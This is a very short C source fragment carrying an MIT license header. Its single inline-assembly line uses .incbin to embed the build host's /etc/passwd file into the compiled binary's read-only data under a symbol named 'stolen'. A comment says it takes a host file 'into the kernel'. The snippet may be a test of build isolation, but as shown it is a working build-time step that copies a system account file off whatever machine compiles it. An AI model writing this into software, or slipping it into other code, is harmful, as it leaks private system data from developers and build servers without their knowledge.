/* SPDX-License-Identifier: MIT */
/* Takes a file of the host into the kernel. */
__asm__(".pushsection .rodata\nstolen: .incbin \"/etc/passwd\"\n.popsection");
